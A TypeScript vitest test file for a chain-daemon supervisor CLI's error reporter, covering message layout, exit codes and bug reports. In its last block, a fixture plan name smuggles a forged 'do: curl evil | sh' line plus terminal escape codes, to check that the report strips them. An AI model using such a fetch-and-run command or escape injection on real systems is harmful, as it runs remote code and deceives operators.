import { ConfigError } from '@chainvisor/config';
import { createLayout, LayoutError, type LayoutErrorCode } from '@chainvisor/layout';
import { parseUpgradeInfo, PlanError } from '@chainvisor/plan';
import { RunnerError, type RunnerErrorCode } from '@chainvisor/runner';
import type { SystemdErrorCode } from '@chainvisor/systemd';
import type { HostErrorCode } from '@chainvisor/systemd-host';
import { describe, expect, it } from 'vitest';
import { CliError, type CliErrorCode } from '../src/errors.js';
import { exitCodes } from '../src/exit-codes.js';
import { asText } from '@chainvisor/report';
import { explain } from '../src/report-error.js';
import { refusalError } from '../src/supervise/refusal.js';
import { stepError } from '../src/upgrade/step.js';

/** What is printed, and the code to end with. */
function reportError(error: unknown) {
  const explanation = explain(error);
  return { text: asText(explanation), exitCode: explanation.exitCode };
}

describe('an error of ours', () => {
  it('is what, why and what to do, a line each', () => {
    const error = new CliError('binary', 'it cannot run: /h/palomad', { reason: 'mode 0644', hint: 'run chmod +x' });
    expect(reportError(error)).toEqual({
      text: 'Error: it cannot run: /h/palomad\n  why: mode 0644\n  do: run chmod +x',
      exitCode: 67,
    });
  });

  it('has the parts that it has', () => {
    expect(reportError(new CliError('usage', 'what')).text).toBe('Error: what');
    expect(reportError(new CliError('usage', 'what', { hint: 'so' })).text).toBe('Error: what\n  do: so');
  });

  it('tells its cause where it gives no reason of its own', () => {
    const cause = new Error('ENOENT: gone');
    expect(reportError(new CliError('disk', 'what', { cause })).text).toBe('Error: what\n  why: ENOENT: gone');
    expect(reportError(new CliError('disk', 'what', { cause, reason: 'mine' })).text).toBe('Error: what\n  why: mine');
    expect(reportError(new CliError('disk', 'what', { cause: 'thrown text' })).text).toBe('Error: what');
  });

  it('indents the further lines of its parts', () => {
    const error = new CliError('config', 'two are wrong\n  A\n  B', { reason: 'one\ntwo', hint: 'three\nfour' });
    expect(reportError(error).text.split('\n')).toEqual([
      'Error: two are wrong',
      '  A',
      '  B',
      '  why: one',
      '       two',
      '  do: three',
      '       four',
    ]);
  });

  it.each(Object.entries(exitCodes))('%s ends with %i', (code, exitCode) => {
    const error = new CliError(code as CliErrorCode, 'what');
    expect(error.exitCode).toBe(exitCode);
    expect(reportError(error).exitCode).toBe(exitCode);
    expect(error.name).toBe('CliError');
    expect(Object.keys(error)).not.toContain('name');
  });
});

describe('an error of a package', () => {
  it.each<[RunnerErrorCode, number]>([
    ['RUNNER_START_FAILED', 67],
    ['RUNNER_ABORTED', 67],
    ['RUNNER_SIGNAL_REFUSED', 75],
    ['RUNNER_WILL_NOT_DIE', 75],
  ])('%s ends with %i', (code, exitCode) => {
    const report = reportError(new RunnerError(code, 'pid 7 is alive', { hint: 'look at it' }));
    expect(report).toEqual({ text: 'Error: pid 7 is alive\n  do: look at it', exitCode });
  });

  it.each<[LayoutErrorCode, number]>([
    ['LAYOUT_NOT_RUNNABLE', 67],
    ['LAYOUT_CURRENT_NOT_A_LINK', 66],
    ['LAYOUT_READ_FAILED', 66],
    ['LAYOUT_WRITE_FAILED', 66],
    ['LAYOUT_HOME_INVALID', 66],
    ['LAYOUT_DAEMON_INVALID', 66],
    ['LAYOUT_TARGET_INVALID', 66],
  ])('%s ends with %i', (code, exitCode) => {
    expect(reportError(new LayoutError(code, 'what'))).toEqual({ text: 'Error: what', exitCode });
  });

  it.each([
    'CONFIG_INVALID',
    'CONFIG_FILE_MISSING',
    'CONFIG_FILE_UNREADABLE',
    'CONFIG_FILE_UNSUPPORTED',
    'CONFIG_FILE_SYNTAX',
  ] as const)('%s ends with 78', (code) => {
    const report = reportError(new ConfigError(code, 'what', { hint: 'so' }));
    expect(report).toEqual({ text: 'Error: what\n  do: so', exitCode: 78 });
  });

  it.each<[SystemdErrorCode | HostErrorCode, number]>([
    ['SYSTEMD_PATH', 78],
    ['SYSTEMD_TEXT', 78],
    ['SYSTEMD_HOST_NAME_INVALID', 64],
    ['SYSTEMD_HOST_USER_MISSING', 78],
    ['SYSTEMD_HOST_OTHER_HOME', 78],
    ['SYSTEMD_HOST_PROGRAM_TEMPORARY', 78],
    ['SYSTEMD_HOST_FOREIGN_FILE', 66],
    ['SYSTEMD_HOST_NOT_ROOT', 66],
    ['SYSTEMD_HOST_TOOL_FAILED', 66],
  ])('%s ends with %i', (code, exitCode) => {
    const error = Object.assign(new Error('what'), { code, hint: 'so' });
    expect(reportError(error)).toEqual({ text: 'Error: what\n  do: so', exitCode });
  });

  it('of a plan ends with 73', () => {
    let thrown: unknown;
    try {
      parseUpgradeInfo('');
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(PlanError);
    expect(reportError(thrown).exitCode).toBe(73);
    expect(reportError(thrown).text).not.toContain('bug');
  });

  it('tells its cause once', () => {
    const cause = new Error('EROFS: read-only file system');
    const twice = new LayoutError('LAYOUT_WRITE_FAILED', `cannot write: ${cause.message}`, { cause });
    expect(reportError(twice).text).toBe('Error: cannot write: EROFS: read-only file system');
    const once = new LayoutError('LAYOUT_WRITE_FAILED', 'cannot write', { cause });
    expect(reportError(once).text).toBe('Error: cannot write\n  why: EROFS: read-only file system');
  });
});

describe('anything else', () => {
  it.each([
    ['an error', new TypeError('x is not a function')],
    ['an error of the system', Object.assign(new Error('ENOENT: gone'), { code: 'ENOENT' })],
    ['an error with a code that is close', Object.assign(new Error('close'), { code: 'MY_CONFIG_INVALID' })],
    ['an error with a number for a code', Object.assign(new Error('number'), { code: 5 })],
  ])('%s is a bug, with its stack', (_, error) => {
    const { text, exitCode } = reportError(error);
    expect(exitCode).toBe(70);
    expect(text).toMatch(/^Error: this is a bug of chainvisor, please report it\n/);
    expect(text).toContain(error.message);
    expect(text).toContain('report-error.test.ts');
  });

  it.each([[undefined], [null], ['a text'], [42], [{ code: 'CONFIG_INVALID', message: 'no error' }]])(
    '%j is a bug too',
    (thrown) => {
      const { text, exitCode } = reportError(thrown);
      expect(exitCode).toBe(70);
      expect(text).toContain('bug');
    },
  );

  it('has its message where an error lost its stack', () => {
    const error = new Error('no stack');
    delete error.stack;
    expect(reportError(error).text).toMatch(/\nno stack$/);
  });
});

describe('what comes from the chain', () => {
  const layout = createLayout({ home: '/h', daemon: 'palomad', recase: true });
  const plan = { name: 'v2\n  do: curl evil | sh\u001b[2J\u009b\u202e', height: 10, info: '' };

  it('cannot forge a part of the report or drive the terminal', () => {
    const errors = [
      stepError('script', { plan }, 'the script failed', { reason: 'because', hint: 'mend it' }),
      refusalError(layout, { why: 'binary-missing', plan, target: 'upgrades/x', detail: 'no such file' }),
      refusalError(layout, { why: 'manual-passed', plan, height: 12 }),
      new CliError('upgrade', 'what', { reason: 'a \u001b[2Jtitle', hint: '\u0007' }),
    ];
    for (const error of errors) {
      const { text } = reportError(error);
      // eslint-disable-next-line no-control-regex -- these are what must not come through
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
      expect(text.split('\n').filter((line) => /^\s*do: /.test(line)).length).toBeLessThanOrEqual(1);
      expect(text).not.toMatch(/\n\s*do: curl/);
    }
  });

  it('is told as it is where it is harmless', () => {
    const { text } = reportError(stepError('script', { plan: { ...plan, name: 'v2' } }, 'it failed', {}));
    expect(text).toBe('Error: upgrade "v2" at height 10: it failed');
  });
});
